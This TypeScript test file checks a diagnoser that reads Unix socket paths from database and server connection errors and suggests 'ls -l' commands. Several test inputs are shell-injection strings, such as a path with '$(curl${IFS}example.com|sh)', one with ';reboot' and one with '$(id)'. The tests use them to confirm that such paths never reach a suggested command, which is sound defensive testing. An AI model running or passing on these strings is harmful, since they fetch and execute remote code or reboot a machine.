import { describe, expect, test } from 'vitest';
import { diagnose } from './index.ts';
import { ownSocketIn } from './own-socket.ts';

const noteOf = (text: string): string => {
  const { diagnoses, missing } = diagnose(text);
  expect(diagnoses).toEqual([]);
  return missing?.text ?? '';
};

describe('a call over a file of the machine', () => {
  test.each([
    [
      "ERROR 2002 (HY000): Can't connect to local MySQL server through socket '/tmp/mysql.sock' (2 \"No such file or directory\")",
      '/tmp/mysql.sock',
      'absent',
    ],
    [
      'connection to server on socket "/run/postgresql/.s.PGSQL.5432" failed: Connection refused',
      '/run/postgresql/.s.PGSQL.5432',
      'refused',
    ],
    ['dial unix /run/app/api.sock: connect: permission denied', '/run/app/api.sock', 'kept'],
    [
      'connect() to unix:/run/php-fpm.sock failed (111: Connection refused) while connecting to upstream',
      '/run/php-fpm.sock',
      'refused',
    ],
    ['Error: connect EACCES /run/app.sock', '/run/app.sock', 'kept'],
  ])('is read with its file and its end: %s', (text, path, ended) => {
    expect(ownSocketIn(text)).toMatchObject({ path, ended });
  });

  test.each([
    'connection to server on socket "/run/postgresql/.s.PGSQL.5432" failed: FATAL:  password authentication failed for user "app"',
    'connection to server at "10.0.3.4", port 5432 failed: Connection refused',
    'dial unix /var/run/docker.sock: connect: no such file or directory',
    'listening on unix:/run/app.sock',
    'dial tcp 10.0.3.4:5432: connect: connection refused',
  ])('is no other: %s', (text) => {
    expect(ownSocketIn(text)).toBeUndefined();
  });

  test.each([
    ['connect ENOENT /tmp/redis.sock', 'ls -l /tmp/redis.sock'],
    ['connect ENOENT /tmp/$(curl${IFS}example.com|sh)', 'ls -l /var/run /tmp'],
    ['connect ENOENT /tmp/a;reboot', 'ls -l /var/run /tmp'],
    ['dial unix /run/$(id).sock: connect: no such file or directory', 'ls -l /var/run /tmp'],
  ])('puts no path into a command that a shell would take for more: %s', (text, command) => {
    expect(diagnose(text).missing?.commands).toEqual([command]);
  });

  test.each([
    'psycopg2.OperationalError: could not connect to server: No such file or directory\n\tIs the server running locally and accepting\n\tconnections on Unix domain socket "/var/run/postgresql/.s.PGSQL.5432"?',
    'connection to server on socket "/var/run/postgresql/.s.PGSQL.5432" failed: No such file or directory\n\tIs the server running locally and accepting connections on that socket?',
    "ERROR 2002 (HY000): Can't connect to local MySQL server through socket '/var/run/mysqld/mysqld.sock' (2)",
  ])('founds no cause alone, and the note says what the text says: %s', (text) => {
    const note = noteOf(text);
    expect(note).toContain('that file is not there');
    expect(note).not.toMatch(/people tell|people write|how is not said|does not know the message/);
  });
});
